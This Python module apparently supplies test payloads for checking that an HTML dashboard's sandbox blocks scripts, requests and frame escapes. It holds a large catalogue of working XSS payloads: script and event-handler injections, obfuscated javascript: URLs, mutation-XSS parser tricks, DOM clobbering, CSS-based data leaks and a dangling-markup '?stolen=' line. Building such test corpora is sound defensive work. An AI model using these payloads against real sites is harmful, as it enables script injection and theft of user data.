"""HTML that tries to run scripts, to fetch something, or to get out of its frame.

`ORIGIN` stands for the dashboard's own origin; whatever works asks for `/hit` there, or calls home.
"""

from __future__ import annotations

import re

SCRIPT = "fetch('ORIGIN/hit');top.document.title='hit';new Image().src='ORIGIN/hit'"

#: {js}: code; every one would run it if scripts were allowed.
_RUNS = (
    "<script>{js}</script>",
    "<script src=ORIGIN/hit></script>",
    '<script type=module>import "ORIGIN/hit"</script>',
    '<img src=x onerror="{js}">',
    '<svg onload="{js}"></svg>',
    "<svg><script>{js}</script></svg>",
    "<svg><script href=ORIGIN/hit /></svg>",
    '<svg><animate onbegin="{js}" attributeName=x dur=1s>',
    '<svg><set onbegin="{js}" attributeName=x to=1>',
    '<svg><a xlink:href="javascript:{js}"><rect width=99 height=99 /></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x"></use></svg>',
    '<svg><foreignObject><iframe onload="{js}"></iframe></foreignObject></svg>',
    "<math><mtext><script>{js}</script></mtext></math>",
    '<math><mglyph><style><img src=x onerror="{js}"></style></mglyph></math>',
    '<math href="javascript:{js}">x</math>',
    '<body onload="{js}">',
    '<body onpageshow="{js}">',
    '<body onhashchange="{js}"><a id=a href=#x></a>',
    '<iframe src="javascript:{js}"></iframe>',
    '<iframe srcdoc="<script>{js}</script>"></iframe>',
    '<iframe src="data:text/html,<script>{js}</script>"></iframe>',
    '<iframe onload="{js}"></iframe>',
    '<object data="javascript:{js}"></object>',
    '<object data="data:text/html,<script>{js}</script>"></object>',
    '<embed src="javascript:{js}">',
    '<embed src="data:image/svg+xml,<svg onload=1 xmlns=http://www.w3.org/2000/svg></svg>">',
    '<video onerror="{js}"><source src=x></video>',
    '<video src=x onerror="{js}"></video>',
    '<audio src=x onerror="{js}"></audio>',
    '<input autofocus onfocus="{js}">',
    '<select autofocus onfocus="{js}"></select>',
    '<textarea autofocus onfocus="{js}"></textarea>',
    '<button autofocus onfocus="{js}">x</button>',
    '<div contenteditable autofocus tabindex=1 onfocus="{js}">x</div>',
    '<details open ontoggle="{js}">x</details>',
    '<marquee onstart="{js}">x</marquee>',
    '<style>@keyframes a{{}}</style><p style="animation:a 1s" onanimationstart="{js}">x</p>',
    '<p style="transition:color 1s;color:red" ontransitionrun="{js}">x</p>',
    '<dialog open onclose="{js}">x</dialog>',
    '<form action="javascript:{js}"><button autofocus>x</button></form>',
    '<isindex action="javascript:{js}" type=submit>',
    '<a href="javascript:{js}" autofocus>x</a>',
    '<meta http-equiv=refresh content="0;url=javascript:{js}">',
    '<meta http-equiv=refresh content="0;url=data:text/html,<script>{js}</script>">',
    "<link rel=import href=ORIGIN/hit>",
    "<link rel=modulepreload href=ORIGIN/hit>",
    '<noscript><p title="</noscript><img src=x onerror={js}>"></noscript>',
    '<template><s></template><img src=x onerror="{js}">',
    '<listing>&lt;img src=x onerror="{js}"&gt;</listing><img src=x onerror="{js}">',
    '<!--><img src=x onerror="{js}">-->',
    "<!--[if gte IE 4]><script>{js}</script><![endif]-->",
    "<![CDATA[<script>{js}</script>]]>",
    '<xmp><p title="</xmp><img src=x onerror={js}>"></xmp>',
    '<title><a title="</title><img src=x onerror={js}>"></title>',
    '<textarea><p title="</textarea><img src=x onerror={js}>"></textarea>',
    '<frameset onload="{js}"><frame src="javascript:{js}"></frameset>',
    '<table background="javascript:{js}"><tr><td>x</table>',
    "<plaintext><script>{js}</script>",
    "</iframe><script>{js}</script>",
    "</html><script>{js}</script>",
    '"><script>{js}</script>',
    "' onerror='{js}",
    '<img src="x` `<script>{js}</script>"` `>',
    "<scr\0ipt>{js}</scr\0ipt>",
    "<SCRIPT/XSS>{js}</SCRIPT>",
    "<<script>{js}//<</script>",
    '<img """><script>{js}</script>">',
    '<img src=x:x onerror\x0b="{js}">',
    '<img/src=x/onerror="{js}">',
    '<x onclick="{js}" autofocus tabindex=1 onfocus="{js}">x</x>',
)

#: Every one would make a request if it could.
_ASKS = (
    "<img src=ORIGIN/hit>",
    '<img srcset="ORIGIN/hit 1x, ORIGIN/hit 2x">',
    "<picture><source srcset=ORIGIN/hit><img></picture>",
    "<link rel=stylesheet href=ORIGIN/hit>",
    "<link rel=icon href=ORIGIN/hit>",
    "<link rel=preload as=image href=ORIGIN/hit>",
    "<link rel=prefetch href=ORIGIN/hit>",
    "<link rel=prerender href=ORIGIN/hit>",
    "<link rel=manifest href=ORIGIN/hit>",
    "<style>@import 'ORIGIN/hit';</style>",
    "<style>body{background:url(ORIGIN/hit)}</style>",
    "<style>@font-face{font-family:a;src:url(ORIGIN/hit)}p{font-family:a}</style><p>x</p>",
    "<style>p::before{content:url(ORIGIN/hit)}</style><p>x</p>",
    '<p style="background-image:url(ORIGIN/hit)">x</p>',
    '<p style="cursor:url(ORIGIN/hit),auto">x</p>',
    '<p style="list-style:url(ORIGIN/hit)">x</p>',
    "<iframe src=ORIGIN/hit></iframe>",
    "<object data=ORIGIN/hit></object>",
    "<embed src=ORIGIN/hit>",
    "<video src=ORIGIN/hit poster=ORIGIN/hit autoplay></video>",
    "<audio src=ORIGIN/hit autoplay></audio>",
    "<video><track default src=ORIGIN/hit></video>",
    "<input type=image src=ORIGIN/hit>",
    "<table background=ORIGIN/hit><tr><td background=ORIGIN/hit>x</table>",
    "<body background=ORIGIN/hit>",
    "<svg><image href=ORIGIN/hit width=9 height=9 /></svg>",
    "<svg><use href=ORIGIN/hit#x /></svg>",
    "<svg><feImage href=ORIGIN/hit /></svg>",
    "<svg><style>@import 'ORIGIN/hit';</style></svg>",
    "<meta http-equiv=refresh content='0;url=ORIGIN/hit'>",
    "<base href=ORIGIN/hit/><img src=hit>",
    "<a href=ORIGIN/x ping=ORIGIN/hit autofocus>x</a>",
    "<form action=ORIGIN/hit method=post><input autofocus></form>",
    "<applet code=hit codebase=ORIGIN></applet>",
    "<portal src=ORIGIN/hit></portal>",
    "<fencedframe src=ORIGIN/hit></fencedframe>",
    "<img src='ORIGIN/hit?stolen=",
)


#: Elements that come to the handler by themselves, or at the first touch.
_HANDLED = (
    "img src=x {on}=error",
    "image src=x {on}=error",
    "img src=data:, {on}=error",
    "img srcset=x {on}=error",
    "link rel=stylesheet href=x {on}=error",
    "script src=x {on}=error",
    "object data=x {on}=error",
    "embed src=x {on}=load",
    "iframe src=about:blank {on}=load",
    "input type=image src=x {on}=error",
    "video src=x {on}=loadstart",
    "audio src=x {on}=loadstart",
    "video src=x autoplay {on}=suspend",
    "audio src=x {on}=emptied",
    "track src=x default {on}=error",
    "source src=x {on}=error",
    "style {on}=load",
    "body {on}=scroll",
    "body {on}=resize",
    "body {on}=focus",
    "body {on}=popstate",
    "body {on}=message",
    "body {on}=beforeprint",
    "svg {on}=load",
    "svg {on}=focusin tabindex=1 autofocus",
    "math {on}=focus tabindex=1 autofocus",
    "a href=# {on}=focus autofocus",
    "area href=# {on}=focus autofocus",
    "label tabindex=1 {on}=focus autofocus",
    "keygen autofocus {on}=focus",
    "summary autofocus {on}=focus",
    "div popover {on}=beforetoggle",
    "dialog open {on}=toggle",
    "x {on}=scrollend style=overflow:scroll;height:9px",
    "x {on}=pointerover style=position:fixed;inset:0",
    "x {on}=mousemove style=position:fixed;inset:0",
    "x {on}=contentvisibilityautostatechange style=content-visibility:auto",
    "form {on}=formdata",
    "slot {on}=slotchange",
    "meter {on}=focus tabindex=1 autofocus",
    "canvas tabindex=1 autofocus {on}=focus",
    "fieldset tabindex=1 autofocus {on}=focusin",
)

#: `javascript:` as browsers still read it; each as an address of an element that goes there.
_SPELLED = (
    "JaVaScRiPt:{js}",
    " javascript:{js}",
    "&#1;javascript:{js}",
    "java&#9;script:{js}",
    "java&#10;script:{js}",
    "java&#13;script:{js}",
    "javascript&colon;{js}",
    "&#106;&#97;vascript:{js}",
    "&#x6A;avascript&#x3A;{js}",
    "javascript://x%0a{js}",
    "javascript:/*x*/{js}",
    "&NewLine;javascript:{js}",
    "&Tab;javascript:{js}",
    "data:text/html;base64,PHNjcmlwdD50b3AuZG9jdW1lbnQudGl0bGU9J2hpdCc8L3NjcmlwdD4=",
    "data:text/html;charset=utf-7,+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>{js}</script></svg>",
    "vbscript:{js}",
    "blob:ORIGIN/hit",
    "filesystem:ORIGIN/hit",
    "view-source:ORIGIN/hit",
)
_GOES = '<iframe src="{to}"></iframe><object data="{to}"></object><embed src="{to}">'

#: Where parsers disagree about where one language ends and another begins.
_CONFUSED = (
    "<svg><p><style><img src=x onerror='{js}'></style></p></svg>",
    '<svg></p><style><a id="</style><img src=x onerror={js}>"></a></style></svg>',
    "<math></p><style><!--</style><img src=x onerror='{js}'>--></style></math>",
    "<math><annotation-xml encoding=text/html><script>{js}</script></annotation-xml></math>",
    "<math><annotation-xml><foreignObject><script>{js}</script></foreignObject></math>",
    "<svg><desc><script>{js}</script></desc></svg>",
    "<svg><title><img src=x onerror='{js}'></title></svg>",
    "<svg><a><animate attributeName=href values=javascript:{js} /><text>x</text></a></svg>",
    "<svg><set attributeName=href to='javascript:{js}' /></svg>",
    "<svg><animateTransform onbegin='{js}' attributeName=transform></svg>",
    "<svg><animateMotion onbegin='{js}'></animateMotion></svg>",
    "<svg><discard onbegin='{js}'></discard></svg>",
    "<svg><handler type=text/javascript>{js}</handler></svg>",
    "<svg><image href=x onerror='{js}'></image></svg>",
    "<svg><style>*{{}}</style><style onload='{js}'></style></svg>",
    "<svg viewBox='0 0 9 9'><view onload='{js}'/></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror='{js}'></style>",
    "<table><svg><title><table></title><style><a id='</style><img src=x onerror={js}>'></style>",
    "<select><template><script>{js}</script></template></select><img src=x onerror='{js}'>",
    "<div><template shadowrootmode=open><img src=x onerror='{js}'></template></div>",
    "<noembed><img title='</noembed><img src=x onerror={js}>'></noembed>",
    "<noframes><img title='</noframes><img src=x onerror={js}>'></noframes>",
    "<desc><b></desc></b><img src=x onerror='{js}'>",
    "<a><svg><b></a><style><!--</style><img src=x onerror='{js}'>--></style></b></svg>",
)

#: Names that shadow the page's own, and styles that tell letter by letter what stands there.
_SLY = (
    "<form id=document><input name=cookie></form><a id=location href=ORIGIN/hit></a>",
    "<img name=body><img name=getElementById><form name=forms><input name=attributes></form>",
    "<iframe name=top srcdoc='<a id=document></a>'></iframe>",
    "<a id=x tabindex=1></a><base target='<script>{js}</script>'>",
    "<style>a[href^='h']{{background:url(ORIGIN/hit)}}</style><a href=http://x>x</a>",
    "<style>p:first-letter{{background:url(ORIGIN/hit)}}</style><p>x</p>",
    "<style>*{{mask:url(ORIGIN/hit);filter:url(ORIGIN/hit#x)}}</style><p>x</p>",
    "<style>p{{border-image:url(ORIGIN/hit) 1;shape-outside:url(ORIGIN/hit)}}</style><p>x</p>",
    "<style>:root{{--u:url(ORIGIN/hit)}}p{{background:var(--u)}}</style><p>x</p>",
    "<style>@namespace url(ORIGIN/hit);@import url(ORIGIN/hit) screen;</style>",
    "<style>p{{background:image-set('ORIGIN/hit' 1x)}}</style><p>x</p>",
    "<style>p{{offset-path:url(ORIGIN/hit#x);clip-path:url(ORIGIN/hit#x)}}</style><p>x</p>",
    "<p style='behavior:url(ORIGIN/hit);-moz-binding:url(ORIGIN/hit)'>x</p>",
    "<p style='width:expression({js})'>x</p>",
    "<link rel=dns-prefetch href=ORIGIN/hit><link rel=preconnect href=ORIGIN>",
    "<link rel='alternate stylesheet' href=ORIGIN/hit title=x>",
    "<link rel=apple-touch-icon href=ORIGIN/hit><link rel=search href=ORIGIN/hit>",
    '<script type=speculationrules>{{"prefetch":[{{"urls":["ORIGIN/hit"]}}]}}</script>',
    "<meta http-equiv=set-cookie content=x=y><meta name=referrer content=unsafe-url>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'><script src=ORIGIN/hit>",
    "<html manifest=ORIGIN/hit>",
    "<img src=ORIGIN/hit loading=lazy><img src=//hit><img src='\\\\hit'>",
    "<video><source src=ORIGIN/hit></video><audio><source src=ORIGIN/hit></audio>",
    "<del cite=ORIGIN/hit>x</del><q cite=ORIGIN/hit>x</q>",
    "<img longdesc=ORIGIN/hit><img lowsrc=ORIGIN/hit dynsrc=ORIGIN/hit>",
    "<xml src=ORIGIN/hit></xml><bgsound src=ORIGIN/hit><layer src=ORIGIN/hit></layer>",
    "<param name=movie value=ORIGIN/hit><command icon=ORIGIN/hit>",
    "<svg><filter><feImage xlink:href=ORIGIN/hit /></filter><pattern href=ORIGIN/hit /></svg>",
    "<svg><script xlink:href=ORIGIN/hit /><linearGradient href=ORIGIN/hit#x /></svg>",
    "<math><mi xlink:href=ORIGIN/hit actiontype=statusline>x</mi></math>",
)

_ON = re.compile(r"\{on\}=(\w+)")
#: How many of the closed ones share a page: a browser takes its time for each.
PAGE = 8


def _more(*, scripts_only: bool) -> list[str]:
    """Payloads that end where they end, some to a page."""
    closed = [
        *(_ON.sub(r'on\1="{js}"', f"<{text}></x>") for text in _HANDLED),
        *(_GOES.replace("{to}", to) for to in _SPELLED),
        *(text.replace("'{js}'", '"{js}"') for text in _CONFUSED),
        *(() if scripts_only else _SLY),
    ]
    return ["<hr>".join(closed[at : at + PAGE]) for at in range(0, len(closed), PAGE)]


def count() -> int:
    """How many there are, however many share a page."""
    groups = (_RUNS, _ASKS, _HANDLED, _SPELLED, _CONFUSED, _SLY)
    return sum(map(len, groups))


def payloads(origin: str, *, scripts_only: bool = False) -> tuple[str, ...]:
    """All of them, aimed at `origin`; or those that would run something."""
    script = SCRIPT.replace('"', "&quot;")
    runs = (*_RUNS, *_more(scripts_only=scripts_only))
    aimed = [text.replace("{js}", script).replace("{{", "{").replace("}}", "}") for text in runs]
    chosen = aimed if scripts_only else (*aimed, *_ASKS)
    return tuple(text.replace("ORIGIN", origin) for text in chosen)
